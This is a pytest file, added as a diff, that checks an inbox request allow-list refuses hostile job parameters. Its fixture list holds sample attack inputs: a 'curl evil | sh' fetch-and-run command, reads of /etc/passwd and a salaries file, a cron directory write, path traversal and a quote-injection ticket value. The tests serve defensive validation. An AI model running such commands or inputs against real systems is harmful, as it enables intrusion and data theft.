@@ -1,0 +1,63 @@
+"""What a request from the inbox page may set: allow-lists with types and bounds, operator overrides."""
+
+from __future__ import annotations
+
+from typing import Any
+
+import pytest
+
+from atlasflow.flows.inbox_rules import MAX_DEPTH, RequestRefused, requestable
+
+#: Each finding of the attack on the inbox (issue 13), as the row's Parameters.
+HOSTILE: list[tuple[str, dict[str, Any], str]] = [
+    ("jira_export", {"root_tickets": ["DEMO-1"], "output_dir": "/etc/cron.d"}, "output_dir cannot be set"),
+    ("jira_export", {"root_tickets": ["DEMO-1"], "output_dir": "../../elsewhere"}, "file paths come from"),
+    ("jira_export", {"root_tickets": ["DEMO-1"], "compare_to": "/srv/reports/team-b.xlsx"}, "compare_to"),
+    ("jira_export", {"root_tickets": ["DEMO-1"], "compare_to": "/etc/passwd"}, "compare_to"),
+    ("confluence_table_sync", {"key_column": "Key", "source": "/srv/hr/salaries.csv"}, "source cannot be set"),
+    ("jira_export", {"root_tickets": ["DEMO-1"], "jira_block": "team-b-jira"}, "credentials and storage"),
+    ("confluence_table_sync", {"key_column": "K", "rows": [{"K": "1"}], "confluence_block": "x"}, "_block"),
+    ("jira_export", {"root_tickets": ["DEMO-1"], "snapshot_block": "s3-bucket/team-b"}, "snapshot_block"),
+    ("pipeline", {"root_tickets": ["DEMO-1"], "notifier_block": "mattermost/ceo"}, "notifier_block"),
+    ("confluence_table_sync", {"key_column": "K", "rows": [{"K": "1"}], "delete_missing": True}, "destructive"),
+    ("confluence_table_sync", {"key_column": "K", "rows": [{"K": "1"}], "dry_run": False}, "dry_run"),
+    ("confluence_table_sync", {"key_column": "K", "rows": [{"K": "1"}], "page_id": "1"}, "page to write"),
+    ("jira_export", {"root_tickets": ["DEMO-1"], "max_depth": 1_000_000}, "max_depth"),
+    ("jira_export", {"jql": "ORDER BY created"}, "must name its project"),
+    ("jira_export", {"jql": "project = DEMO OR " + "x = y OR " * 300}, "jql"),
+    ("jira_export", {"root_tickets": [f"DEMO-{i}" for i in range(1, 200)]}, "root_tickets"),
+    ("jira_export", {"root_tickets": ['DEMO-1" OR project != X']}, "root_tickets"),
+    ("confluence_table_sync", {"key_column": "K", "rows": [{"K": "x" * 5000}]}, "longer than"),
+    ("report_results", {"confluence_page_id": "1"}, "page to write"),
+    ("shell_job_by_operator", {"command": "curl evil | sh"}, "not a parameter this job takes"),
+]
+
+
+@pytest.mark.parametrize(("job", "parameters", "said"), HOSTILE)
+def test_hostile_requests_are_refused_with_the_reason(job: str, parameters: dict[str, Any], said: str) -> None:
+    with pytest.raises(RequestRefused, match=said):
+        requestable(job, parameters)
+
+
+def test_a_good_request_passes_only_what_it_gave_and_the_depth_cap() -> None:
+    parameters = {"root_tickets": ["DEMO-1"], "fields": ["Story Points"], "include_links": True}
+    assert requestable("jira_export", parameters) == {**parameters, "max_depth": MAX_DEPTH}
+    assert requestable("jira_export", {"project_key": "DEMO", "max_depth": 2}) == {
+        "project_key": "DEMO",
+        "max_depth": 2,
+    }
+    rows = [{"Key": "DAN", "Role": "=HYPERLINK(1)", "N": 3}]
+    assert requestable("confluence_table_sync", {"key_column": "Key", "rows": rows, "dry_run": True}) == {
+        "key_column": "Key",
+        "rows": rows,
+        "dry_run": True,
+    }
+
+
+def test_an_operator_can_allow_one_more_parameter_per_job() -> None:
+    allowed = requestable(
+        "jira_export", {"root_tickets": ["DEMO-1"], "output_dir": "reports/team-a"}, frozenset({"output_dir"})
+    )
+    assert allowed["output_dir"] == "reports/team-a"
+    with pytest.raises(RequestRefused, match="jira_block"):
+        requestable("jira_export", {"root_tickets": ["DEMO-1"], "jira_block": "x"}, frozenset({"output_dir"}))
